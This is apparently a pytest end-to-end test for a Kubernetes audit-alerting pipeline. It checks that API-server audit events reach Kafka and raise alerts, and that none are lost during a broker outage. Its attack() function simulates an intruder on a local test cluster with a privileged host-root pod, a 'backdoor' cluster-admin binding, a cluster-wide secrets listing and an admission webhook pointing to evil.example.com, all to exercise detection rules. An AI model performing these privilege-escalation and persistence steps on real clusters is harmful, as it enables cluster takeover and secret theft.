"""The real sender: a kube-apiserver whose audit webhook backend posts to `klaxon ingest
webhook`, a worker, and alerts on the alert topic, from audit events the API server itself
wrote. None of the events is written by the test.

The API server also writes its audit log file (`--audit-log-path`), the same events by a
second backend, which tells the test what must have arrived: every audit ID in the file
reaches the raw topic, across a broker outage during which the receiver answers 503 and the
API server's webhook backend retries.
"""

from __future__ import annotations

import asyncio
import secrets
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest

from pipeline.brokers import free_port
from pipeline.topics import ensure_topics
from pipeline.worker import settings_env
from schemas.normalize import decode_payload
from tests.faults import FaultyKafka
from tests.kubeapi import AuditWebhook, KubeAPIServer, TestCA
from tests.pipeline.conftest import WorkerProcess, base_env, read_topic, unique_settings

pytestmark = [pytest.mark.slow, pytest.mark.kafka, pytest.mark.k8s, pytest.mark.timeout(400)]

CLUSTER = "e2e"


class Receiver:
    """`klaxon ingest webhook` as a subprocess, with TLS from the test CA and a token."""

    def __init__(self, settings: Any, ca: TestCA, work: Path) -> None:
        self.port = free_port()
        self.token = secrets.token_hex(16)
        cert, key = ca.issue(f"klaxon-ingest-{self.port}")
        tokens = work / "tokens"
        tokens.write_text(self.token + "\n")
        self.log_path = work / "ingest.log"
        self._log = open(self.log_path, "wb")  # noqa: SIM115 - closed in stop()
        argv = [sys.executable, "-m", "klaxon", "ingest", "webhook", "--port", str(self.port),
                "--tls-cert", str(cert), "--tls-key", str(key), "--token-file", str(tokens),
                "--cluster", CLUSTER, "--retry-after", "1", "--kafka-timeout", "5"]  # fmt: skip
        self.proc = subprocess.Popen(
            argv,
            env=base_env() | settings_env(settings),
            stdin=subprocess.DEVNULL,
            stdout=self._log,
            stderr=subprocess.STDOUT,
        )
        self.webhook = AuditWebhook(
            f"https://127.0.0.1:{self.port}/audit", ca.cert_path, self.token
        )

    def wait_ready(self, ca: TestCA, timeout: float = 30.0) -> None:
        import urllib.request

        deadline = time.monotonic() + timeout
        context = ca.ssl_client_context()
        while time.monotonic() < deadline:
            assert self.proc.poll() is None, self.log()
            try:
                url = f"https://127.0.0.1:{self.port}/readyz"
                with urllib.request.urlopen(url, context=context, timeout=2) as answer:
                    if answer.status == 200:
                        return
            except OSError:
                pass
            time.sleep(0.2)
        pytest.fail(f"the receiver did not become ready:\n{self.log()}")

    def log(self) -> str:
        return self.log_path.read_text(errors="replace")[-3000:]

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(15)
            except subprocess.TimeoutExpired:
                self.proc.kill()
        self._log.close()


def raw_events(bootstrap: str, topic: str) -> list[dict[str, Any]]:
    """Every audit event of the raw topic, decoded as the worker decodes it."""
    events: list[dict[str, Any]] = []
    for record in read_topic(bootstrap, topic):
        events += decode_payload(record.value, cluster=CLUSTER).events
    return events


def logged_ids(log: Path) -> set[str]:
    """Audit IDs the API server wrote to its log file, ResponseComplete/ResponseStarted."""
    ids = set()
    for line in log.read_text().splitlines():
        if line.strip():
            event = orjson.loads(line)
            if event.get("stage") in ("ResponseComplete", "ResponseStarted"):
                ids.add(event["auditID"])
    return ids


def attack(api: KubeAPIServer) -> None:
    """What an intruder with an admin token does, and some ordinary work around it."""
    api.create("/api/v1/namespaces", {"metadata": {"name": "shop"}})
    api.create("/api/v1/namespaces/shop/configmaps", {"metadata": {"name": "app"},
               "data": {"mode": "prod"}})  # fmt: skip
    for ns in ("kube-system", "shop"):
        api.create(f"/api/v1/namespaces/{ns}/serviceaccounts", {"metadata": {"name": "default"}})
    api.create(
        "/api/v1/namespaces/kube-system/pods",
        {
            "metadata": {"name": "root-shell"},
            "spec": {
                "containers": [{"name": "c", "image": "busybox:1.36", "command": ["sleep", "1d"],
                                "securityContext": {"privileged": True},
                                "volumeMounts": [{"name": "host", "mountPath": "/host"}]}],
                "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
            },
        },
    )  # fmt: skip
    api.create("/api/v1/namespaces/kube-system/serviceaccounts", {"metadata": {"name": "backdoor"}})
    api.create(
        "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
        {
            "metadata": {"name": "backdoor-admin"},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                        "name": "cluster-admin"},
            "subjects": [{"kind": "ServiceAccount", "name": "backdoor",
                          "namespace": "kube-system"}],
        },
    )  # fmt: skip
    api.list("/api/v1/secrets")
    hook = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations"
    api.create(
        hook,
        {
            "metadata": {"name": "intercept"},
            "webhooks": [{
                "name": "intercept.evil.example.com",
                "clientConfig": {"url": "https://evil.example.com/mutate"},
                "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"],
                           "resources": ["pods"]}],
                "objectSelector": {"matchLabels": {"klaxon-test-never": "x"}},
                "failurePolicy": "Ignore", "sideEffects": "None",
                "admissionReviewVersions": ["v1"],
            }],
        },
    )  # fmt: skip
    api.delete(f"{hook}/intercept")  # never called: nothing matches its selector anyway
    api.list("/api/v1/namespaces/shop/configmaps")


EXPECTED = {
    "Privileged container in a pod or workload",
    "Sensitive host path mounted into a pod or workload",
    "Cluster-admin role granted to a subject",
    "Secrets listed across all namespaces",
    "Admission webhook pointing outside the cluster",
}


@pytest.fixture
def settings(kafka: FaultyKafka, tmp_path: Path) -> Iterator[Any]:
    s = unique_settings(kafka.bootstrap_servers, tmp_path).replace(rules_paths=())
    asyncio.run(ensure_topics(s.bootstrap_servers, s))
    yield s


def test_the_api_servers_own_audit_events_become_alerts(
    settings: Any, k8s_ca: TestCA, kube_apiserver_factory: Any, tmp_path: Path
) -> None:
    receiver = Receiver(settings, k8s_ca, tmp_path)
    worker = WorkerProcess(settings, tmp_path, "w")
    try:
        receiver.wait_ready(k8s_ca)
        log = tmp_path / "apiserver-audit.log"
        api = kube_apiserver_factory(
            webhook=receiver.webhook, extra_args=(f"--audit-log-path={log}",)
        )
        attack(api)
        titles: dict[str, set[str]] = {}

        def alerted() -> bool:
            titles.clear()
            for r in read_topic(settings.bootstrap_servers, settings.topic_alerts):
                alert = orjson.loads(r.value)
                titles.setdefault(alert["rule"]["title"], set()).add(alert["user"]["username"])
            return set(titles) >= EXPECTED

        worker.wait_for("the attack's alerts", alerted, 90)
        assert titles["Cluster-admin role granted to a subject"] == {"klaxon-admin"}
        time.sleep(1.5)  # the last webhook batch (200 ms wait) of the API server
        arrived = [e["auditID"] for e in raw_events(settings.bootstrap_servers,
                                                    settings.topic_raw)]  # fmt: skip
        assert len(arrived) == len(set(arrived)), "an event arrived twice"
        missing = logged_ids(log) - set(arrived)
        assert not missing, f"{len(missing)} audit events logged but not received"
    finally:
        receiver.stop()
        worker.stop()


@pytest.fixture(scope="module")
def own_kafka() -> Iterator[FaultyKafka]:
    from tests.conftest import _start_kafka

    cluster = _start_kafka(1)
    try:
        yield cluster
    finally:
        cluster.stop()


def test_a_broker_outage_is_retried_by_the_api_server_and_loses_nothing(
    own_kafka: FaultyKafka, k8s_ca: TestCA, kube_apiserver_factory: Any, tmp_path: Path
) -> None:
    """Broker killed mid-test: the receiver answers 503 with Retry-After, the API server's
    webhook backend retries; once the broker is back every logged event is in the raw topic."""
    s = unique_settings(own_kafka.bootstrap_servers, tmp_path)
    asyncio.run(ensure_topics(s.bootstrap_servers, s))
    receiver = Receiver(s, k8s_ca, tmp_path)
    try:
        receiver.wait_ready(k8s_ca)
        log = tmp_path / "apiserver-audit.log"
        api = kube_apiserver_factory(
            webhook=receiver.webhook,
            extra_args=(f"--audit-log-path={log}",),
        )
        api.create("/api/v1/namespaces", {"metadata": {"name": "before"}})
        own_kafka.kill_node(0)
        for i in range(5):  # written by the API server while the broker is down
            api.create("/api/v1/namespaces/before/configmaps", {"metadata": {"name": f"c{i}"}})
            time.sleep(0.5)
        own_kafka.start_node(0)
        api.create("/api/v1/namespaces", {"metadata": {"name": "after"}})
        want = logged_ids(log)
        deadline = time.monotonic() + 90
        arrived: list[str] = []
        while time.monotonic() < deadline:
            arrived = [e["auditID"] for e in raw_events(s.bootstrap_servers, s.topic_raw)]
            if want <= set(arrived):
                break
            time.sleep(2)
        missing = want - set(arrived)
        assert not missing, f"{len(missing)} of {len(want)} events lost:\n{receiver.log()}"
        assert "not ready" in receiver.log(), receiver.log()  # it saw the outage
    finally:
        receiver.stop()
